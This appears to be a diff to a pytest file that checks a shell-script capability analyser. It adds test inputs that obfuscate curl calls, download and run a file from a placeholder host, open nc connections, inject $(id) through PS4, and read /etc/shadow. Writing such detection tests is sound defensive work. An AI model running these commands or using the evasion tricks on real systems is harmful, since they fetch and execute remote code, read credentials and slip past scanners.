@@ -61,6 +61,16 @@ _DOES: dict[str, tuple[str, set[tuple[str, str | None]]]] = {
         "cat ${HOME:0:1}etc${HOME:0:1}hosts\n",
         {("fs.read", "/etc/hosts"), ("env.read", "HOME")},
     ),
+    "a name over two lines": (
+        "cu\\\nrl https://h.example\n",
+        {("net.outbound", "h.example"), ("code.obfuscated", "curl")},
+    ),
+    "a download that runs later": (
+        "curl -so /tmp/i https://h.example/i\nsh /tmp/i\n",
+        {("code.fetched", "h.example")},
+    ),
+    "a prompt": ("PS4='$(id)'\nexport PS4\n", {("code.dynamic", "PS4")}),
+    "another process": ("coproc nc h.example 80\n", {("net.outbound", "h.example")}),
     "an array": ('c=(curl -s)\nc+=(https://h.example)\n"${c[@]}"\n', {("net.outbound", "h.example")}),
     "printf into a variable": ("printf -v f '%s/%s' /etc shadow\ncat \"$f\"\n", {("credentials.read", "/etc/shadow")}),
     "a default": ('rm -rf "${DIR:-/tmp/x}"\n', {("fs.delete", "/tmp/x"), ("env.read", "DIR")}),
@@ -165,6 +175,13 @@ def test_a_script_that_is_not_understood_is_partial() -> None:
     assert facts.status == "partial"
     assert "not understood" in facts.reason
     assert ("fs.delete", "x") in {(fact.capability, fact.object) for fact in facts.facts}
+
+
+def test_words_in_braces_are_a_command() -> None:
+    facts = _read("true\n{curl,-s,https://h.example}\n")
+    assert {("net.outbound", "h.example"), ("code.obfuscated", "curl")} <= {
+        (f.capability, f.object) for f in facts.facts
+    }
 
 
 @pytest.mark.parametrize(
